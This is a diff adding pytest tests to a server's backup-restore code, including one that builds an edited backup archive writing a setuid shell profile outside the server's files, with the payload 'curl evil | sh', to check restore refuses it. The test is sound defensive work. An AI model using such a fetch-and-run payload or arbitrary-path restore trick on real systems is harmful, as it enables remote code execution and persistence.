@@ -5,6 +5,7 @@ processes is tests/integration/test_backup_restore.py."""
 from __future__ import annotations
 
 import asyncio
+import hashlib
 import json
 import sqlite3
 import zipfile
@@ -153,4 +154,52 @@ def test_restore_keeps_a_newer_log_and_newer_caches_and_refuses_an_older_log(
 
     write_log(state / "messagelog.db", 2)  # a log reset behind the backup's head
     with pytest.raises(BackupError, match="ends before the backup's"):
+        restore(tmp_path / "backup.zip")
+
+
+def test_a_backup_naming_a_path_outside_the_servers_files_restores_nothing(
+    tmp_path: Path,
+) -> None:
+    """A backup kept apart could be edited: a manifest entry naming any other path (here a
+    shell profile, setuid) is refused before anything is written."""
+    config = make_server(tmp_path / "server")
+    take(config, tmp_path / "backup.zip")
+    target = tmp_path / "elsewhere" / ".profile"
+    edited = tmp_path / "edited.zip"
+    payload = b"curl evil | sh\n"
+    with zipfile.ZipFile(tmp_path / "backup.zip") as src, zipfile.ZipFile(edited, "w") as dst:
+        manifest = json.loads(src.read("manifest.json"))
+        for item in src.infolist():
+            if item.filename != "manifest.json":
+                dst.writestr(item, src.read(item))
+        dst.writestr("files/9999/.profile", payload)
+        manifest["files"].append(
+            {
+                "name": "files/9999/.profile",
+                "path": str(target),
+                "size": len(payload),
+                "mode": 0o4755,
+                "sha256": hashlib.sha256(payload).hexdigest(),
+                "cache": False,
+            }
+        )
+        dst.writestr("manifest.json", json.dumps(manifest))
+    (tmp_path / "server" / "keys" / "auth.key").unlink()
+    with pytest.raises(BackupError, match="neither its settings file"):
+        restore(edited)
+    assert not target.exists()
+    assert not (tmp_path / "server" / "keys" / "auth.key").exists()
+
+
+def test_a_log_with_another_history_is_not_kept_silently(tmp_path: Path) -> None:
+    """A log there that reaches the backup's head with other records (a log reset and
+    refilled) is not taken for the backup's own."""
+    config = make_server(tmp_path / "server")
+    take(config, tmp_path / "backup.zip")
+    db = sqlite3.connect(tmp_path / "server" / "state" / "messagelog.db")
+    db.execute("UPDATE message_log SET hash = zeroblob(32) WHERE seq = 3")
+    db.execute("INSERT INTO message_log VALUES ('main', 4, zeroblob(32))")
+    db.commit()
+    db.close()
+    with pytest.raises(BackupError, match="another history"):
         restore(tmp_path / "backup.zip")
